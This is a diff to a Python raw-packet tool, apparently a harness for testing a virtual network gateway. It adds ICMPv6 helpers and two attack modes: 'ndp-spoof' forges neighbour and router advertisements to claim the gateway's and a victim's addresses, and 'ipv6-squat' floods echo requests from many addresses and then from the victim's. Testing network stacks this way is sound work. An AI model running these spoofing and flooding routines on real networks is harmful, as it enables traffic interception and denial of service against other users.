@@ -71,6 +71,22 @@ def tcp(source, destination, source_port, destination_port, sequence, acknowledg
     return ipv4(source, destination, 6, header[:16] + struct.pack("!H", value) + header[18:] + payload)
 
 
+def ip6(text):
+    return socket.inet_pton(socket.AF_INET6, text)
+
+
+def icmpv6(source, destination, message_type, body, hop_limit=255):
+    """An IPv6 packet carrying an ICMPv6 message (RFC 4443), checksummed over the pseudo-header (RFC 8200 §8.1)."""
+    message = struct.pack("!BBH", message_type, 0, 0) + body
+    pseudo = source + destination + struct.pack("!IxxxB", len(message), 58)
+    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
+    return struct.pack("!IHBB", 6 << 28, len(message), 58, hop_limit) + source + destination + message
+
+
+def multicast_mac(address):
+    return b"\x33\x33" + address[12:]
+
+
 def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
     return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, sender_mac, sender_ip, target_mac, target_ip)
 
@@ -141,6 +157,8 @@ class Guest:
 
     def inspect(self, frame):
         self.count("frames")
+        if len(frame) > 54 and frame[12:14] == b"\x86\xdd" and frame[20] == 58 and frame[54] == 129:
+            self.count("echo6-reply")
         if len(frame) < 34 or frame[12:14] != b"\x08\x00":
             return
         header = (frame[14] & 0x0F) * 4
@@ -299,6 +317,26 @@ def main():
             source = ip(f"192.168.127.{66 + index % 4}")
             guest.send(ethernet(GATEWAY, me, 0x0800, tcp(source, ip("192.168.127.254"), 20000 + index // 4, a.port,
                                                          1, 0, 0x02)))
+    elif a.attack == "ndp-spoof":
+        # Neighbour advertisements (RFC 4861 §4.4) claiming the gateway's and the victim's IPv6
+        # addresses for our MAC, and router advertisements (§4.2) of a prefix and a default route.
+        link_local = ip6("fe80::66:66ff:fe66:6601")
+        all_nodes = ip6("ff02::1")
+        for _ in range(a.count):
+            for claimed in (ip6("fd00::1"), ip6(a.target)):
+                body = struct.pack("!B3x", 0xA0) + claimed + bytes([2, 1]) + me
+                guest.send(ethernet(multicast_mac(all_nodes), me, 0x86DD, icmpv6(link_local, all_nodes, 136, body)))
+            prefix = bytes([3, 4, 64, 0xC0]) + struct.pack("!III", 86400, 14400, 0) + ip6("2001:db8:bad::")
+            body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + bytes([1, 1]) + me + prefix
+            guest.send(ethernet(multicast_mac(all_nodes), me, 0x86DD, icmpv6(link_local, all_nodes, 134, body)))
+    elif a.attack == "ipv6-squat":
+        # Echo requests to the gateway from --count addresses of the /64, then from the victim's.
+        for index in range(a.count):
+            source = ip6(f"fd00::66:{index // 65536:x}:{index % 65536:x}")
+            guest.send(ethernet(GATEWAY, me, 0x86DD, icmpv6(source, ip6("fd00::1"), 128, struct.pack("!HH", 1, index & 0xFFFF),
+                                                             hop_limit=64)))
+        guest.send(ethernet(GATEWAY, me, 0x86DD, icmpv6(ip6(a.target), ip6("fd00::1"), 128, struct.pack("!HH", 2, 1),
+                                                         hop_limit=64)))
     elif a.attack == "mac-flood":
         for _ in range(a.count):
             guest.send(ethernet(BROADCAST, random_mac(generator), 0x0800,
